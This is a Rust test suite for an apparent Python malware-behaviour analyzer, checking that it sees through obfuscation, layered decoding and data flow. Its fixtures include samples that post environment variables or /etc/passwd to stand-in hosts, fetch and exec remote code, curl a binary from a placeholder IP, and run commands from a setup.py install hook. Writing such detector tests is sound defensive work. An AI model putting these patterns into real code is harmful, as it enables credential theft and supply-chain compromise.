//! Claims about the events that source text gives.

mod common;

use common::{analysis_of, calls, event, events_of};
use venin_model::{Event, OriginKind, Role, Trigger};

#[test]
fn a_call_is_named_through_an_import_alias() {
    assert_eq!(calls("import os as o\no.system('echo a')"), ["os.system"]);
}

#[test]
fn a_call_is_named_through_assignment_and_attribute_chains() {
    let source =
        "import subprocess\nclass T: pass\nt = T()\nt.run = subprocess.Popen\nf = t.run\nf(['echo', 'a'])";
    assert_eq!(calls(source), ["subprocess.Popen"]);
}

#[test]
fn a_call_is_named_through_getattr_with_a_folded_name() {
    assert!(calls("import os\ngetattr(os, 'sys' + 'tem')('echo a')").contains(&"os.system".to_owned()));
}

#[test]
fn a_call_is_named_through_dunder_import() {
    assert!(calls("__import__('o' + 's').system('echo a')").contains(&"os.system".to_owned()));
}

#[test]
fn a_call_is_named_through_globals_and_builtins() {
    for source in [
        "import os\nglobals()['os'].system('echo a')",
        "__builtins__.__dict__['__import__']('os').system('echo a')",
        "import builtins\nvars(builtins)['__import__']('os').system('echo a')",
        "import importlib\nimportlib.import_module('os').__dict__['system']('echo a')",
        "import sys, os\nsys.modules['os'].system('echo a')",
    ] {
        assert!(calls(source).contains(&"os.system".to_owned()), "{source}: {:?}", calls(source));
    }
}

#[test]
fn a_star_import_binds_catalogued_names() {
    assert_eq!(calls("from os import *\nsystem('echo a')"), ["os.system"]);
}

#[test]
fn decoded_source_is_a_layer() {
    let source = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBhJyk='))";
    let event = event(source, "os.system");
    assert_eq!(event.site.layer, 1);
    assert_eq!(event.site.line, 2);
    assert_eq!(event.site.layer_line, 2);
    assert!(event.decoding.iter().any(|d| d.contains("b64decode")), "{:?}", event.decoding);
    let exec = common::event(source, "exec");
    let code = exec.argument(Role::Code).expect("exec has code");
    assert!(code.origins.kinds.contains(OriginKind::Decoded));
}

#[test]
fn layers_nest() {
    let source = "exec(\"exec('exec(\\\\'import os; os.system(1)\\\\')')\")";
    assert_eq!(event(source, "os.system").site.layer, 3);
}

#[test]
fn a_character_list_is_joined_and_executed() {
    let codes: Vec<String> =
        "import os;os.system('echo a')".chars().map(|c| (c as u32).to_string()).collect();
    let source = format!("exec(''.join(map(chr, [{}])))", codes.join(","));
    assert_eq!(event(&source, "os.system").site.layer, 1);
    let source = format!("exec(''.join(chr(c) for c in [{}]))", codes.join(","));
    assert_eq!(event(&source, "os.system").site.layer, 1);
}

#[test]
fn an_xor_loop_in_a_function_is_computed() {
    let hidden: Vec<String> = "import os;os.system('echo a')".bytes().map(|b| (b ^ 7).to_string()).collect();
    let source = format!(
        "def dec(data, key):\n    out = ''\n    for b in data:\n        out += chr(b ^ key)\n    return out\nexec(dec([{}], 7))",
        hidden.join(",")
    );
    assert_eq!(event(&source, "os.system").site.layer, 1);
}

#[test]
fn code_that_stands_in_one_of_many_files_is_not_computed() {
    let filler: Vec<(String, String)> =
        (0..300).map(|n| (format!("pkg/a{n}.py"), format!("VALUE = {n}\n"))).collect();
    let mut files: Vec<(&str, &str, Trigger)> =
        filler.iter().map(|(path, text)| (path.as_str(), text.as_str(), Trigger::Import)).collect();
    files.push(("pkg/run.py", "def run(text):\n    return eval(text)\n", Trigger::Import));
    files.push(("pkg/z.py", "from pkg.run import run\nrun('pack(first, second)')\n", Trigger::Import));
    let analysis = analysis_of(&files);
    let evals = || analysis.events.iter().filter(|e| &*e.name == "eval");
    assert!(evals().any(|e| e.text(Role::Code) == Some("pack(first, second)")));
    let is_decoded = |e: &Event| {
        e.argument(Role::Code).is_some_and(|code| code.origins.kinds.contains(OriginKind::Decoded))
    };
    assert!(!evals().any(is_decoded));
}

#[test]
fn what_a_download_gave_reaches_exec_through_locals() {
    let source = "import requests\nr = requests.get('http://a.example/x')\ntext = r.text\nexec(text)";
    let exec = event(source, "exec");
    let code = exec.argument(Role::Code).expect("exec has code");
    assert!(code.origins.kinds.contains(OriginKind::Network));
    let get = event(source, "requests.get");
    assert!(code.origins.comes_from(get.id));
}

#[test]
fn flow_goes_through_functions_attributes_and_containers() {
    let source = "
import os, requests
class Box:
    def __init__(self):
        self.items = {}
    def put(self, v):
        self.items['env'] = v
    def send(self):
        requests.post('http://a.example', json=self.items)
def collect():
    return dict(os.environ)
b = Box()
b.put(collect())
b.send()
";
    let post = event(source, "requests.post");
    let data = post.argument(Role::Data).expect("post has data");
    assert!(data.origins.kinds.contains(OriginKind::Env), "{:?}", data.origins);
}

#[test]
fn flow_goes_across_files() {
    let analysis = analysis_of(&[
        (
            "pkg/__init__.py",
            "from .net import send\nfrom . import env\nsend(env.all_of_it())",
            Trigger::Import,
        ),
        (
            "pkg/net.py",
            "import requests\ndef send(d):\n    requests.post('http://a.example', data=d)",
            Trigger::Run,
        ),
        ("pkg/env.py", "import os\ndef all_of_it():\n    return str(os.environ)", Trigger::Run),
    ]);
    let post = analysis.events.iter().find(|e| &*e.name == "requests.post").expect("the call is reached");
    assert_eq!(post.trigger, Trigger::Import);
    assert!(post.argument(Role::Data).expect("data").origins.kinds.contains(OriginKind::Env));
}

#[test]
fn a_file_handle_carries_its_path_to_write() {
    let source = "import os\np = os.path.join(os.getenv('APPDATA'), 'x.exe')\nwith open(p, 'wb') as f:\n    f.write(b'x')";
    let write = event(source, "open().write");
    assert_eq!(write.text(Role::Path), Some("⟨os.environ[APPDATA]⟩/x.exe"));
}

#[test]
fn both_branches_are_taken_and_the_condition_is_kept() {
    let source = "import sys, os\nif sys.platform == 'win32':\n    os.system('a')\nelse:\n    os.popen('b')";
    let events = events_of(source);
    let system = events.iter().find(|e| &*e.name == "os.system").expect("taken");
    assert_eq!(&*system.conditions[0].subject, "sys.platform");
    assert_eq!(system.conditions[0].value.as_deref(), Some("win32"));
    assert!(events.iter().any(|e| &*e.name == "os.popen"));
}

#[test]
fn values_of_both_branches_are_kept() {
    let source = "import os\nif os.name == 'nt':\n    c = 'one'\nelse:\n    c = 'two'\nos.system(c)";
    let system = event(source, "os.system");
    let texts: Vec<&str> =
        system.arguments.iter().filter_map(|a| a.value.as_ref()).map(|v| &*v.text).collect();
    assert!(texts.contains(&"one") && texts.contains(&"two"), "{texts:?}");
}

#[test]
fn a_command_class_runs_at_install() {
    let source = "
from setuptools import setup
from setuptools.command.install import install
import os
class Custom(install):
    def run(self):
        install.run(self)
        os.system('echo a')
setup(name='x', cmdclass={'install': Custom})
";
    let analysis = analysis_of(&[("setup.py", source, Trigger::Install)]);
    let system = analysis.events.iter().find(|e| &*e.name == "os.system").expect("the command runs");
    assert_eq!(system.trigger, Trigger::Install);
    assert_eq!(system.function.as_deref(), Some("Custom.run"));
}

#[test]
fn a_thread_runs_its_target() {
    let source = "import threading, os\ndef work(c):\n    os.system(c)\nthreading.Thread(target=work, args=('echo a',)).start()";
    let analysis = analysis_of(&[("pkg/__init__.py", source, Trigger::Import)]);
    let system = analysis.events.iter().find(|e| &*e.name == "os.system").expect("the target runs");
    assert_eq!(system.trigger, Trigger::Import);
    assert_eq!(system.text(Role::Command), Some("echo a"));
}

#[test]
fn a_function_nobody_calls_has_the_run_trigger() {
    let source = "import os\ndef later(c):\n    os.system(c)";
    let analysis = analysis_of(&[("pkg/__init__.py", source, Trigger::Import)]);
    let system = analysis.events.iter().find(|e| &*e.name == "os.system").expect("the body is looked at");
    assert_eq!(system.trigger, Trigger::Run);
    let command = system.argument(Role::Command).expect("command");
    assert!(command.origins.kinds.contains(OriginKind::Argument));
}

#[test]
fn a_decorator_that_is_exec_runs_the_function_name() {
    let source = "import os\n@(lambda f: f())\ndef go():\n    os.system('echo a')";
    assert_eq!(calls(source), ["os.system"]);
}

#[test]
fn python_two_gives_events() {
    let source = "import urllib2\nprint 'x'\nexec urllib2.urlopen('http://a.example/x').read()";
    let exec = event(source, "exec");
    assert!(exec.argument(Role::Code).expect("code").origins.kinds.contains(OriginKind::Network));
}

#[test]
fn code_for_another_interpreter_is_a_layer() {
    let source =
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import os; os.system('a')\"])";
    assert_eq!(event(source, "os.system").site.layer, 1);
}

#[test]
fn a_path_object_keeps_the_whole_path() {
    let source = "from pathlib import Path\n(Path('/tmp/a') / 'b' / 'c.sh').write_text('x')";
    let write = event(source, "pathlib.Path().write_text");
    assert_eq!(write.text(Role::Path), Some("/tmp/a/b/c.sh"));
}

#[test]
fn a_written_file_is_known_when_it_is_read_again() {
    let source = "open('/tmp/p.py', 'w').write('import os; os.system(1)')\nexec(open('/tmp/p.py').read())";
    assert_eq!(event(source, "os.system").site.layer, 1);
}

#[test]
fn an_endless_loop_ends_within_the_budget() {
    assert!(events_of("x = 0\nwhile True:\n    x += 1").is_empty());
    assert!(events_of("def f(n):\n    return f(n + 1)\nf(0)").is_empty());
    assert!(events_of("x = 'a'\nwhile True:\n    x += x").is_empty());
}

#[test]
fn two_runs_agree() {
    let source =
        "import os, requests\nfor k in ['a', 'b']:\n    requests.get('http://a.example/' + k + os.getenv(k))";
    assert_eq!(events_of(source), events_of(source));
}

#[test]
fn functions_that_only_compute_are_counted_and_those_that_act_are_not() {
    let compute: String = (0..12).map(|n| format!("def f{n}(x):\n    return x + {n}\n")).collect();
    let act: String = (0..12).map(|n| format!("def g{n}(x):\n    return open(x)\n")).collect();
    let counted = |text: &str| {
        let analysis = analysis_of(&[("pkg/__init__.py", text, Trigger::Import)]);
        let fact = analysis.facts.into_iter().find(|fact| &*fact.kind == "source.bystanders");
        fact.and_then(|fact| fact.detail("functions").map(str::to_owned))
    };
    assert_eq!(counted(&format!("{compute}{act}")).as_deref(), Some("12"));
    assert_eq!(counted(&act), None);
    let idle: String =
        (0..12).map(|n| format!("def f{n}(x):\n    x.y = {n}\nh{n} = lambda x: x\n")).collect();
    assert_eq!(counted(&idle), None, "what gives nothing back computes nothing that we could know of");
}

#[test]
fn an_artifact_too_big_to_hold_at_once_is_worked_off_in_batches_and_no_module_is_left_out() {
    let padding = format!("table = [{}]\n", "'a', ".repeat(100_000));
    let mut files: Vec<(String, String)> = Vec::new();
    let mut start = String::new();
    for n in 0..12 {
        start.push_str(&format!("import pkg.m{n}\n"));
        files.push((format!("pkg/m{n}.py"), format!("{padding}import os\nos.system('echo {n}')\n")));
    }
    files.push(("pkg/__init__.py".to_owned(), start));
    let trigger = |path: &str| if path.ends_with("__init__.py") { Trigger::Import } else { Trigger::Run };
    let files: Vec<(&str, &str, Trigger)> =
        files.iter().map(|(p, t)| (p.as_str(), t.as_str(), trigger(p))).collect();
    let analysis = analysis_of(&files);
    let commands = analysis.events.iter().filter(|e| &*e.name == "os.system");
    let mut seen: Vec<(Trigger, String)> =
        commands.map(|e| (e.trigger, e.text(Role::Command).unwrap_or_default().to_owned())).collect();
    seen.sort();
    seen.dedup();
    assert_eq!(seen.len(), 12, "{seen:?}");
    assert!(seen.iter().all(|(trigger, _)| *trigger == Trigger::Import), "{seen:?}");
}

#[test]
fn nested_layers_keep_every_decoding_in_order() {
    // `os.system('echo hello')`, packed and decoded by the same line, and that once more.
    let source = "import base64, zlib; exec(zlib.decompress(base64.b64decode(b'eJzLzC3ILypRSEosTjUz0VGoyslMslZIrUhN1gAx9VJSk/NzC4pSi4s1IEr0ksxMQIIpqRpJ6qleVT5VzsaePpUFQZXO2kZOud6WJsVFmdklQckuaRGhpp4VFhmRVaF5XhUWKaEGjsY+nr6ejra26pqamgD/bCgv')))";
    let event = event(source, "os.system");
    assert_eq!(event.site.layer, 2);
    let chain: Vec<&str> = event.decoding.iter().map(|name| &**name).collect();
    let once = ["base64.b64decode", "zlib.decompress"];
    assert_eq!(chain, [once, once].concat());
}

#[test]
fn the_mark_of_a_place_is_its_call() {
    let padding = "pad = 1; ".repeat(60);
    let site = event(&format!("{padding}import os; os.system('echo hello'); done = 1\n"), "os.system").site;
    let mark = site.snippet.chars().skip(site.mark_start as usize).take(site.mark_length as usize);
    assert_eq!(mark.collect::<String>(), "os.system('echo hello')");
    assert!(site.snippet.chars().count() <= 240);
}

#[test]
fn a_temporary_file_has_a_path_and_what_is_written_to_it_runs_when_it_is_started() {
    let source = "import os, sys\nfrom tempfile import NamedTemporaryFile as T\nt = T(delete=False)\nt.write(b'import os; os.remove(\"a\")')\nt.close()\nos.system(f\"start {sys.executable.replace('.exe', 'w.exe')} {t.name}\")";
    let started = event(source, "os.system");
    let made = event(source, "tempfile.NamedTemporaryFile");
    let path = made.text(Role::Path).expect("a path");
    assert!(started.text(Role::Command).is_some_and(|c| c.ends_with(path)), "{started:?}");
    assert_eq!(event(source, "os.remove").site.layer, 1);
}

#[test]
fn a_script_that_is_written_line_by_line_and_started_is_read() {
    let source = "import subprocess\nwith open('x.bat', 'w') as f:\n    f.write('@echo off\\n')\n    f.write('curl -o a.bin http://192.0.2.1/a\\n')\nsubprocess.Popen(['x.bat'])";
    assert!(calls(source).iter().any(|name| name.ends_with(":curl")), "{:?}", calls(source));
}

#[test]
fn what_is_put_into_an_object_from_outside_comes_out_of_it() {
    let form = "import aiohttp\nform = aiohttp.FormData()\nform.add_field('f', open('/etc/passwd', 'rb'))\naiohttp.post('http://a.example/', data=form)";
    assert!(
        event(form, "aiohttp.post")
            .argument(Role::Data)
            .is_some_and(|a| a.origins.kinds.contains(OriginKind::File))
    );
    let mail = "import os, smtplib\nfrom email.mime.multipart import MIMEMultipart\nm = MIMEMultipart()\nm['Subject'] = os.environ['USER']\nsmtplib.SMTP('m.example').sendmail('a', 'b', m.as_string())";
    let sent = event(mail, "smtplib.SMTP().sendmail");
    assert!(sent.argument(Role::Data).is_some_and(|a| a.origins.kinds.contains(OriginKind::Env)), "{sent:?}");
}

#[test]
fn a_name_that_nothing_binds_is_what_it_was_meant_to_be() {
    assert_eq!(calls("def f():\n    requests.get('http://a.example/')\nf()"), ["requests.get"]);
    let method = "class C:\n    from os import system\n    def m(self):\n        system('echo a')\nC().m()";
    assert_eq!(calls(method), ["os.system"]);
    assert!(calls("def f(thing):\n    unheard_of.get('a')\nf(1)").is_empty());
}

#[test]
fn a_main_block_that_an_import_skips_does_not_hide_what_the_import_calls() {
    let module = "import os\ndef go():\n    os.system('echo a')\nif __name__ == '__main__':\n    go()\n";
    let setup = "from helper import go\ngo()\n";
    let analysis = analysis_of(&[("setup.py", setup, Trigger::Install), ("helper.py", module, Trigger::Run)]);
    let triggers: Vec<Trigger> =
        analysis.events.iter().filter(|e| &*e.name == "os.system").map(|e| e.trigger).collect();
    assert!(triggers.contains(&Trigger::Install), "{triggers:?}");
    assert!(triggers.contains(&Trigger::Entry), "{triggers:?}");
}

#[test]
fn a_module_whose_import_was_forgotten_is_known_by_its_name() {
    assert_eq!(calls("import sys\nsubprocess.Popen(['echo', 'a'])"), ["subprocess.Popen"]);
    assert_eq!(
        calls("from sys import *\nurllib.request.urlopen('https://a.example/')"),
        ["urllib.request.urlopen"]
    );
    assert!(calls("def f(requests):\n    return requests.get('https://a.example/')").is_empty());
}

#[test]
fn a_member_that_is_loaded_by_its_path_runs_under_the_same_trigger() {
    let part = "import os\ndef run():\n    os.system('echo a')\n";
    for load in [
        "import importlib.util\ns = importlib.util.spec_from_file_location('x', 'pk/part.py')\n\
         m = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)\nm.run()",
        "import imp, os\nm = imp.load_source('x', os.path.join(os.path.dirname(__file__), 'pk', 'part.py'))\nm.run()",
    ] {
        let analysis =
            analysis_of(&[("setup.py", load, Trigger::Install), ("pk/part.py", part, Trigger::Run)]);
        let found = analysis.events.iter().find(|e| &*e.name == "os.system").map(|e| e.trigger);
        assert_eq!(found, Some(Trigger::Install), "{load}");
    }
}

#[test]
fn a_parameter_that_is_named_for_a_secret_keeps_its_name() {
    let source = "import requests\ndef check(private_key):\n    requests.post('https://a.example/', [{'x', private_key}])";
    let event = event(source, "requests.post");
    let data = event.argument(Role::Data).expect("the request has data");
    assert!(data.origins.kinds.contains(OriginKind::Argument));
    assert!(data.value.as_ref().is_some_and(|v| v.text.contains("argument[private_key]")), "{data:?}");
}

#[test]
fn a_long_decoding_loop_in_a_function_that_nothing_calls_runs_to_its_end() {
    let hidden = format!("import os\nos.system('echo a')\n{}", "# filler\n".repeat(150));
    let codes: Vec<String> = hidden.bytes().map(|b| (b ^ 7).to_string()).collect();
    let source = format!(
        "CODES = [{}]\ndef show():\n    text = ''\n    for i in range(len(CODES)):\n        code = CODES[i]\n        \
         key = 7 + i - i\n        text += chr(code ^ key)\n    exec(text)\n",
        codes.join(",")
    );
    assert!(calls(&source).contains(&"os.system".to_owned()));
}

#[test]
fn a_function_that_was_cut_in_the_budget_of_its_caller_is_run_for_itself() {
    let hidden = format!("import os\nos.system('echo a')\n{}", "# filler\n".repeat(150));
    let codes: Vec<String> = hidden.bytes().map(|b| (b ^ 7).to_string()).collect();
    let module = format!(
        "CODES = [{}]\ndef show(n):\n    text = ''\n    for i in range(len(CODES)):\n        code = CODES[i]\n        \
         key = 7 + i - i\n        text += chr(code ^ key)\n    exec(text)\n    return n\n",
        codes.join(",")
    );
    let caller =
        "from pkg import show\ndef main():\n    for n in range(256):\n        print(show(n))\nmain()\n";
    let analysis = analysis_of(&[
        ("pkg/__init__.py", &module, Trigger::Import),
        ("tests/try_it.py", caller, Trigger::Run),
    ]);
    assert!(analysis.events.iter().any(|e| &*e.name == "os.system"));
}

#[test]
fn a_command_in_words_has_the_alternatives_of_its_words() {
    let source = "import subprocess, sys\nfolder = '/a'\nif sys.platform == 'win32':\n    folder = '/b'\n\
                  subprocess.Popen(['sh', folder + '/stage.sh'])";
    let event = event(source, "subprocess.Popen");
    let commands: Vec<&str> = event
        .arguments
        .iter()
        .filter(|a| a.role == Role::Command)
        .filter_map(|a| a.value.as_ref().map(|v| &*v.text))
        .collect();
    assert!(commands.contains(&"sh /a/stage.sh") && commands.contains(&"sh /b/stage.sh"), "{commands:?}");
}

#[test]
fn a_temporary_file_keeps_its_mode_and_takes_its_suffix_by_place_or_by_name() {
    let named = event(
        "import tempfile\ntempfile.NamedTemporaryFile('w', suffix='.py')",
        "tempfile.NamedTemporaryFile",
    );
    assert_eq!(named.text(Role::Mode), Some("w"));
    assert!(named.text(Role::Path).is_some_and(|p| p.ends_with(".py")), "{named:?}");
    let placed = event("import tempfile\ntempfile.mkstemp('.bat', 'a')", "tempfile.mkstemp");
    assert!(placed.text(Role::Path).is_some_and(|p| p.ends_with(".bat")), "{placed:?}");
}

#[test]
fn the_text_of_something_from_outside_keeps_its_name() {
    let source =
        "import acme, requests\nkey = acme.Key()\nrequests.post('https://collect.example', data=str(key))";
    assert_eq!(event(source, "requests.post").text(Role::Data), Some("⟨acme.Key()⟩"));
}

#[test]
fn evaluating_a_literal_executes_nothing() {
    for text in ["{'a': [1, b'x']}", " (1, -2)", "\"\\\\uD800\"", "3"] {
        let source = format!("import os\nx = eval({text:?})\nos.getcwd()\n");
        assert!(!calls(&source).iter().any(|name| name == "eval"), "{text}");
    }
    for text in ["print", "f('x')", "[x for x in y]", "a.b", "f'{x}'"] {
        assert!(calls(&format!("x = eval({text:?})")).iter().any(|name| name == "eval"), "{text}");
    }
}

#[test]
fn a_yes_or_no_carries_nothing_of_what_was_asked() {
    let source = "import os, requests\nout = os.popen('netstat').read()\nrequests.post('http://one.example', data={'up': bool(out)})\n";
    let sent = event(source, "requests.post");
    let asked = event(source, "os.popen");
    assert!(!sent.input.comes_from(asked.id));
}

#[test]
fn short_code_out_of_a_template_is_not_decoded_and_computed_code_is() {
    let is_decoded = |source: &str| {
        event(source, "exec").arguments.iter().any(|a| a.origins.kinds.contains(OriginKind::Decoded))
    };
    for written in [
        "for tok in ['ID', 'NUM']:\n    exec(\"t_%s = '%s:'\" % (tok, tok))",
        "exec('{} = {}'.format('name', 'value'))",
        "names = ['alpha', 'beta']\nexec(','.join(names) + ' = 1, 2')",
        "for n in ['BTC', 'LTC']:\n    exec(\"%sTests = mk('%s')\" % (n, n))",
        "for n in ['Left', 'Right']:\n    exec(f'get{n} = mk({n!r})')",
        "import pickle\nexec('\\n' * pickle.loads(given).line + 'raise mark')",
    ] {
        assert!(!is_decoded(written), "{written}");
    }
    for computed in [
        "exec(''.join(chr(c - 1) for c in [113, 115, 106, 111, 117, 41, 40, 106, 111, 102, 115, 117, 40, 42]))",
        "exec('bsjou(1) # tuqoj'.translate({98: 112, 115: 114}))\n",
    ] {
        assert!(is_decoded(computed), "{computed}");
    }
}

#[test]
fn code_for_frozen_programs_is_not_run_by_an_import() {
    let trigger = |source: &str| event(&format!("import os, sys\n{source}"), "os.system").trigger;
    for frozen in [
        "if getattr(sys, 'frozen', False):\n    os.system('echo')",
        "if hasattr(sys, '_MEIPASS'):\n    os.system('echo')",
    ] {
        assert_eq!(trigger(frozen), Trigger::Run, "{frozen}");
    }
    for runs in [
        "if not getattr(sys, 'frozen', False):\n    os.system('echo')",
        "sys.frozen = True\nif getattr(sys, 'frozen', False):\n    os.system('echo')",
        "setattr(sys, 'frozen', 1)\nif hasattr(sys, 'frozen'):\n    os.system('echo')",
    ] {
        assert_eq!(trigger(runs), Trigger::Import, "{runs}");
    }
}
